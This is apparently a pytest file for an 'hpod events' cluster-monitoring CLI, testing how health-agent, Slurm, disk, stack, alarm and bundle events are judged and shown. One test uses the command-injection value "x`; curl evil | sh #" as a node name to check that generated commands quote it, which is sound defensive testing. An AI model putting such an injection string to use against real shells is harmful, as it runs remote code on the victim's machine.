"""`hpod events` puts every source on one timeline, and judges each event by a documented rule."""

import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from cli.events.command import events
from cli.events.event import Event
from cli.events.node_sources import disk_events
from cli.events.timeline import timeline
from cli.events.verdicts import RULES, Source, judge
from cli.result import Json
from tests.unit.cli.fake_operations import DRAINED, HEALTH, NOW, FakeOperations, ago, slurm

PAGE = Path(__file__).parents[3] / "docs" / "operate" / "events.md"
WORK = "i-00000000000000002"
XID = {
    "HealthMonitoringAgentDetectionEvent": "HealthEvent",
    "msg": "DCGM Policy Violation found ",
    "condition: ": "XID Error",
    "data: ": {"ErrNum": 79},
}


@pytest.fixture
def account() -> FakeOperations:
    return FakeOperations()


def printed(account: FakeOperations, hours: int = 24) -> list[str]:
    lines: list[str] = []
    events(account.deployment(), since=timedelta(hours=hours), show=lambda block: lines.append(str(block)), now=lambda: NOW)
    return lines


def found(account: FakeOperations) -> list[tuple[str, str, str]]:
    """Source, subject and rule of each event."""
    data = events(account.deployment(), now=lambda: NOW).data
    assert data
    return [(each["source"], each["subject"], each["rule"]) for each in data["events"]]


def test_a_fault_that_the_health_agent_detects_requires_an_action(account: FakeOperations) -> None:
    account.log(HEALTH, f"SagemakerHealthMonitoringAgent/work/{WORK}", ago(10), XID)
    account.log(HEALTH, f"SagemakerHealthMonitoringAgent/work/{WORK}", ago(9), {"msg": "heartbeat"})
    account.log(HEALTH, f"LifecycleConfig/work/{WORK}", ago(8), XID)
    head, action = printed(account)
    assert head == f"11-22 11:50:00Z  act    health     {WORK}: DCGM Policy Violation found: XID 79"
    assert action.startswith(f"    `./hpod replace draft {WORK}`")


def test_a_fault_that_a_program_causes_is_only_worth_watching(account: FakeOperations) -> None:
    account.log(HEALTH, f"SagemakerHealthMonitoringAgent/work/{WORK}", ago(10), {**XID, "data: ": {"ErrNum": 31}})
    assert found(account) == [("health", WORK, "gpu-program")]


@pytest.mark.parametrize(("reason", "rule"), [("XidHardwareFailure", "agent-hardware"), ("XidUserAppError", "agent-program")])
def test_the_agents_own_judgement_of_a_kernel_message_counts(account: FakeOperations, reason: str, rule: str) -> None:
    message = f'Node condition X is now: True, reason: {reason}, message: "NVRM: Xid (PCI:0000:b9:00): 71, NVLink: fatal"'
    record = {"HealthMonitoringAgentDetectionEvent": "HealthEvent", "msg": "NPD caught event: %v"}
    account.log(HEALTH, f"SagemakerHealthMonitoringAgent/work/{WORK}", ago(10), {**record, "details: ": {"message": message}})
    assert found(account) == [("health", WORK, rule)]
    assert "XID 71" in printed(account)[0]


def test_a_node_condition_is_a_fault_only_if_its_status_is_true(account: FakeOperations) -> None:
    stream, record = f"SagemakerHealthMonitoringAgent/work/{WORK}", {**XID, "msg": "NPD caught ", "condition: ": "", "data: ": ""}
    well = {"type": "KernelDeadlock", "status": "False", "reason": "KernelHasNoDeadlock", "message": "kernel has no deadlock"}
    faulty = {**well, "status": "True", "reason": "DockerHung", "message": "task docker:20744 blocked for more than 120 seconds."}
    account.log(HEALTH, stream, ago(10), {**record, "with condition details ": well})
    account.log(HEALTH, stream, ago(9), {**record, "with condition details ": faulty})
    assert found(account) == [("health", WORK, "agent-condition"), ("health", WORK, "health")]
    assert "NPD caught: KernelDeadlock True: DockerHung: task docker" in printed(account)[1]


def test_a_drained_node_is_one_event_until_it_is_available_again(account: FakeOperations) -> None:
    for minutes, problems in ((9, ()), (8, (DRAINED,)), (7, (DRAINED,)), (6, ()), (5, (DRAINED,))):
        account.state("head", 1, minutes=minutes, **slurm(*problems))
    assert found(account) == [
        ("slurm", "ip-10-1-0-3", "slurm-gpu"),
        ("slurm", "ip-10-1-0-3", "slurm-back"),
        ("slurm", "ip-10-1-0-3", "slurm-gpu"),
    ]


def test_a_dead_slurmctld_makes_no_node_available_again(account: FakeOperations) -> None:
    unknown = dict.fromkeys(("nodes", "idle", "allocated", "drained", "down", "problems"))
    account.state("head", 1, minutes=3, **slurm(DRAINED))
    account.state("head", 1, minutes=2, **slurm(slurmctld=0, **unknown))
    account.state("head", 1, minutes=1, **slurm(DRAINED))
    assert [rule for *_, rule in found(account)] == ["slurm-gpu", "slurm-daemon", "slurm-back"]
    assert found(account)[-1][1] == "slurmctld"


def test_a_node_that_a_full_report_leaves_out_is_not_available_again(account: FakeOperations) -> None:
    account.state("head", 1, minutes=3, **slurm(DRAINED))
    account.state("head", 1, minutes=2, **slurm(drained=51))
    account.state("head", 1, minutes=1, **slurm(DRAINED))
    assert [rule for *_, rule in found(account)] == ["slurm-gpu"]
    account.state("head", 1, minutes=0, **slurm())
    assert [rule for *_, rule in found(account)] == ["slurm-gpu", "slurm-back"]


def test_a_problem_that_two_controllers_report_is_one_event(account: FakeOperations) -> None:
    for number, minutes in ((1, 3.0), (9, 2.5), (1, 2.0), (9, 1.5)):
        account.state("head", number, minutes=minutes, **slurm(DRAINED))
    assert found(account) == [("slurm", "ip-10-1-0-3", "slurm-gpu")]


@pytest.mark.parametrize(
    ("reason", "rule"), [("broken fan", "slurm-drained"), ("hpod drain by alice: gpu", "slurm-hpod"), ("gpu", "slurm-gpu")]
)
def test_a_drain_requires_an_action_unless_an_operator_did_it_with_hpod(account: FakeOperations, reason: str, rule: str) -> None:
    account.state("head", 1, **slurm({**DRAINED, "reason": reason}))
    assert found(account) == [("slurm", "ip-10-1-0-3", rule)]


def test_a_full_root_volume_of_a_worker_requires_an_action(account: FakeOperations) -> None:
    full = [{"path": "/", "free_percent": 3.0}, {"path": "/fsx", "free_percent": 1.0}]
    for minutes in (60, 20, 15, 10, 5):
        account.state("work", 2, minutes=minutes, disks=full)
    account.state("work", 3, disks=[{"path": "/", "free_percent": 60}, *full[1:]])
    assert found(account) == [("disk", "ip-10-1-0-2 /", "disk-full")] * 2
    assert [line[:15] for line in printed(account)[::2]] == ["11-22 11:00:00Z", "11-22 11:40:00Z"]


def test_a_full_root_volume_is_not_repeated_while_events_are_followed(account: FakeOperations) -> None:
    for minutes in range(0, 30, 5):
        account.state("work", 2, minutes=minutes, disks=[{"path": "/", "free_percent": 3.0}])
    assert next(disk_events(account.deployment(), ago(31))).time == ago(25)
    later = disk_events(account.deployment(), ago(5), is_first=False)
    assert [event for event in later if event.time >= ago(5)] == []


def test_a_dead_daemon_and_a_full_file_system_require_an_action(account: FakeOperations) -> None:
    disks = [{"path": "/fsx", "free_percent": 3.0}, {"path": "/", "free_percent": 8.0}, {"path": "/opt", "free_percent": 50}]
    account.state("head", 1, minutes=2, disks=disks, **slurm(slurmctld=0))
    assert sorted(found(account)) == [
        ("disk", "ip-10-1-0-1 /", "disk-low"),
        ("disk", "ip-10-1-0-1 /fsx", "disk-full"),
        ("slurm", "slurmctld", "slurm-daemon"),
    ]


def test_scripts_that_a_node_refused_or_could_not_run_are_events(account: FakeOperations) -> None:
    account.bundle("work", 2, "refused", minutes=9, message="hash mismatch")
    account.bundle("work", 2, "failed", minutes=8, step="create users", message="useradd: exit 9")
    account.bundle("work", 2, "applied", minutes=7)
    assert [rule for *_, rule in found(account)] == ["bundle-refused", "bundle-failed", "bundle"]
    assert "work-1: failed bundle aaaaaaaa: create users: useradd: exit 9" in printed(account)[2]


@pytest.mark.parametrize("result", ["failed", "applied"])
def test_a_result_in_the_stream_of_another_node_is_no_event(account: FakeOperations, result: str) -> None:
    account.forge("work/i-00000000000000003", "bundle", 2, result=result)
    account.forge("head/i-00000000000000003", "state", 1, **slurm(DRAINED))
    account.forge("head/i-00000000000000002", "state", 2, **slurm(DRAINED))
    assert found(account) == []


def test_a_node_that_is_not_listed_counts_only_as_a_controller_that_was_replaced(account: FakeOperations) -> None:
    account.nodes[0]["LaunchTime"] = ago(5)
    account.state("head", 9, minutes=4, **slurm(DRAINED))
    assert found(account) == []
    account.state("head", 9, minutes=6, **slurm(DRAINED))
    assert found(account) == [("slurm", "ip-10-1-0-3", "slurm-gpu")]


def test_a_command_to_copy_quotes_the_name_that_a_node_reported() -> None:
    event = Event(NOW, Source.BUNDLE, "failed", "x`; curl evil | sh #", "boom")
    assert "./hpod logs ml 'x`; curl evil | sh #'`" in event.action("ml")


def test_a_text_that_is_cut_says_so() -> None:
    event = Event(NOW, Source.STACK, "UPDATE_FAILED", "starter-Cluster", 40 * "words of a script ")
    assert event.what.endswith("...")
    assert len(event.what) < 40 * len("words of a script ")


def test_stacks_appear_with_their_own_states_and_the_failures_of_their_resources(account: FakeOperations) -> None:
    def add(resource: str, status: str, minutes: float, reason: str = "") -> None:
        named = {"LogicalResourceId": resource, "ResourceStatus": status, "Timestamp": ago(minutes)}
        account.stack_events.insert(0, {**named, **({"ResourceStatusReason": reason} if reason else {})})

    add("draft-Cluster", "UPDATE_COMPLETE", 60 * 30)
    add("draft-Cluster", "REVIEW_IN_PROGRESS", 21, "User Initiated")
    add("draft-Cluster", "UPDATE_IN_PROGRESS", 20)
    add("Role", "UPDATE_COMPLETE", 19)
    add("Role", "CREATE_FAILED", 18, "Resource creation cancelled")
    add("Cluster", "UPDATE_FAILED", 17, "no capacity")
    add("draft-Cluster", "UPDATE_ROLLBACK_COMPLETE", 10)
    assert found(account) == [
        ("stack", "draft-Cluster", "stack"),
        ("stack", "draft-Cluster Cluster", "stack-failed"),
        ("stack", "draft-Cluster", "stack-rolled-back"),
    ]


def test_an_alarm_is_an_event_when_it_is_raised_and_when_it_returns_to_ok(account: FakeOperations) -> None:
    name = "draft-SlurmctldDown"
    description = "slurmctld is down, or the controller sends no reports"
    account.alarms = [{"AlarmName": name, "StateValue": "OK", "AlarmDescription": description}]
    for minutes, state in ((9, "ALARM"), (5, "OK"), (3, "INSUFFICIENT_DATA")):
        change = {"newState": {"stateValue": state, "stateReason": "threshold"}}
        account.history.append({"AlarmName": name, "Timestamp": ago(minutes), "HistoryData": json.dumps(change)})
    assert [rule for *_, rule in found(account)] == ["alarm", "alarm-over", "alarm-no-reports"]
    assert f"{name}: ALARM: slurmctld is down" in printed(account)[0]
    assert any(line.endswith(f"{name}: OK") for line in printed(account))


def cluster_event(number: int, level: str, text: str, failure: str = "") -> Json:
    details = {"EventMetadata": {"Instance": {"FailureMessage": failure}}} if failure else {}
    named = {"EventId": str(number), "ResourceType": "Instance", "InstanceId": WORK, "Description": text}
    return {**named, "EventTime": ago(number), "EventLevel": level, "EventDetails": details}


def test_events_of_the_cluster_need_continuous_provisioning_and_show_the_failure(account: FakeOperations) -> None:
    account.cluster_events = [
        cluster_event(3, "Info", "Instance is Running"),
        cluster_event(2, "Error", "Instance did not start", "Lifecycle scripts did not run successfully"),
        cluster_event(1, "Error", "Instances were not launched", "InsufficientInstanceCapacity"),
    ]
    account.refused = {"list_cluster_events"}
    assert "cluster events" not in str(events(account.deployment(), now=lambda: NOW))
    account.refused = set()
    account.continuous = True
    assert [rule for *_, rule in found(account)] == ["cluster", "cluster-scripts", "cluster-capacity"]
    assert "Instance did not start: Lifecycle scripts did not run successfully" in printed(account)[1]


def test_operations_show_the_counts_of_their_groups(account: FakeOperations) -> None:
    counts = {"Original": {"TargetCount": 2}, "Desired": {"TargetCount": 4}}
    account.operations = [
        {
            "OperationId": "1",
            "Type": "Scaling",
            "Status": "Superseded",
            "CreationTime": ago(5),
            "ScalingDetails": [{"InstanceGroupName": "work", **counts}],
        }
    ]
    assert printed(account) == ["11-22 11:55:00Z  watch  operation  Scaling Superseded: work 2 -> 4"]


def test_a_source_that_aws_refuses_is_named_and_the_others_are_shown(account: FakeOperations) -> None:
    account.log(HEALTH, f"SagemakerHealthMonitoringAgent/work/{WORK}", ago(10), XID)
    account.refused = {"describe_alarms"}
    result = events(account.deployment(), now=lambda: NOW)
    assert "1 events since 2026-11-21 12:00 UTC: 1 act, 0 watch, 0 ok" in str(result)
    assert "alarm history: cannot run `events`: An error occurred (AccessDeniedException)" in str(result)


def test_new_events_are_followed_and_none_is_repeated(account: FakeOperations) -> None:
    account.state("head", 1, minutes=3, **slurm(DRAINED))
    polls = iter((1, 2, 9))
    minute = [0.0]

    def sleep(_: float) -> None:
        if (poll := next(polls, None)) is None:
            raise KeyboardInterrupt
        minute[0] = poll
        account.state("head", 1, minutes=-poll, **slurm(DRAINED, slurmctld=0))

    def now() -> datetime:
        return NOW + timedelta(minutes=minute[0])

    lines: list[str] = []
    with pytest.raises(KeyboardInterrupt):
        events(
            account.deployment(),
            since=timedelta(hours=1),
            follow=True,
            show=lambda block: lines.append(str(block)),
            sleep=sleep,
            now=now,
        )
    assert [line.split()[4] for line in lines if line.startswith("11-22")] == ["ip-10-1-0-3:", "slurmctld:"]


def test_a_node_that_is_late_to_register_is_followed_once(account: FakeOperations) -> None:
    joins = slurm({"host": "ip-10-1-0-2", "state": "joining"}, {"host": "ip-10-1-0-3", "state": "joining"}, drained=0)
    for minutes in range(30):
        account.state("head", 1, minutes=minutes, **joins)
        account.state("work", 3, minutes=minutes)  # was late before
    for minutes in (10, 5, 0):
        account.state("work", 2, minutes=minutes)
    cluster = account.describe_cluster()
    deployment, since = account.deployment(), NOW - timedelta(minutes=5)
    for later in (0, 2):
        account.state("head", 1, minutes=-later, **joins)
        found, _ = timeline(deployment, since=since + timedelta(minutes=later), cluster=cluster, is_first=False)
        assert [(event.time, event.subject) for event in found] == [(NOW - timedelta(minutes=2), "ip-10-1-0-2")]


@pytest.mark.parametrize("source", Source)
def test_every_event_of_a_source_has_a_rule(source: Source) -> None:
    assert judge(source, "something new", "anything").source is source


def test_a_joining_node_calls_for_no_action() -> None:
    assert judge(Source.SLURM, "joining", "ip-10-1-0-9: joining").verdict == "ok"
    assert judge(Source.SLURM, "down+not_responding", "ip-10-1-0-9: down").verdict == "act"


def test_a_node_that_rebooted_is_not_said_to_be_silent() -> None:
    rule = judge(Source.SLURM, "down", "ip-10-1-0-9: Node unexpectedly rebooted")
    assert rule.verdict == "act"
    assert rule.action.startswith("`./hpod resume CLUSTER NODE`")


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
def test_every_rule_is_documented(rule: Any) -> None:
    row = f"| `{rule.name}` | {rule.source} | {rule.verdict} | {rule.what} | {rule.action or '-'} |"
    assert row in PAGE.read_text()


def test_rules_have_different_names_and_actions_where_they_require_one() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert all(bool(rule.action) == (rule.verdict == "act") for rule in RULES)
